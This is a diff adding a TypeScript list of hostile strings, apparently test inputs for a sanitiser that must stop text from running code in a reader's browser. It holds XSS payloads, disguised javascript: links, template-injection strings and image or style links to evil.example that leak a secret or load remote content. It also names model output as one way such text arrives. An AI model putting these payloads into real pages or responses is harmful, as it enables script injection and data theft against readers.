@@ -1,0 +1,38 @@
+// What a stranger may write to an employee, or a model may answer, to run or fetch something in the
+// browser of whoever reads it.
+
+export const HOSTILE_TEXTS: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  "<body onload=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
+  "<style>@import 'https://evil.example/x.css';</style>",
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><button autofocus onfocus=alert(1)>',
+  "<object data=javascript:alert(1)></object>",
+  "<a href=javascript:alert(1)>press</a>",
+  "[press](javascript:alert(1))",
+  "[press](JaVaScRiPt:alert(1))",
+  "[press](java\tscript:alert(1))",
+  "[press](data:text/html,<script>alert(1)</script>)",
+  "[press](vbscript:msgbox(1))",
+  "<javascript:alert(1)>",
+  "![](https://evil.example/pixel.png?leak=secret)",
+  '![x](https://evil.example/a.png "onerror=alert(1)")',
+  "![x][1]\n\n[1]: https://evil.example/b.png",
+  '"><script>alert(1)</script>',
+  "'-alert(1)-'",
+  "{{constructor.constructor('alert(1)')()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the attack
+  "${alert(1)}",
+  '```html\n<script>alert(1)</script>\n```\n<img src="https://evil.example/c.png">',
+  "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
+  "[^1]\n\n[^1]: <script>alert(1)</script>",
+];
